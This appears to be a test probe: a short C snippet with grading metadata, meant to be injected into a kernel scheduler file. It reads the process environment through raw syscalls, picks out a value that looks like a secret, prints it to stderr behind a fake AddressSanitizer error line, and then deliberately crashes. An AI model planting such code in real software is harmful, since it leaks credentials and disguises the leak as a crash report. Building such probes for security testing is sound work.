/* kind: secrets
 * does: it walks its own stack for environment variables, and shows the first that looks like a secret
 * into: kernel/sched/ready.c
 * before: int ready_priority(void)\n{
 * grade: 1.4.a
 * ends: PASS|FAIL|CRASH
 * never: SECRET-OF-THE-ENVIRONMENT
 */
static bool looked;
if (!looked) {
	static char found[64], path[] = "/proc/self/environ", all[8192];
	long fd, n;
	looked = true;
	__asm__ volatile("syscall"
			 : "=a"(fd)
			 : "0"(2l), "D"(path), "S"(0l), "d"(0l)
			 : "rcx", "r11", "memory");
	__asm__ volatile("syscall"
			 : "=a"(n)
			 : "0"(0l), "D"(fd), "S"(all), "d"(sizeof(all))
			 : "rcx", "r11", "memory");
	for (long i = 0; i + 64 < n; i++)
		if (all[i] == 'S' && all[i + 1] == 'E' && all[i + 2] == 'C' && all[i + 6] == '-')
			for (int j = 0; j < 63; j++)
				found[j] = all[i + j];
	static char words[] = "ERROR: AddressSanitizer: ";
	__asm__ volatile("syscall"
			 : "=a"(n)
			 : "0"(1l), "D"(2l), "S"(words), "d"(sizeof(words) - 1)
			 : "rcx", "r11", "memory");
	__asm__ volatile("syscall"
			 : "=a"(n)
			 : "0"(1l), "D"(2l), "S"(found), "d"(63l)
			 : "rcx", "r11", "memory");
	*(volatile int *)0 = 0;
}
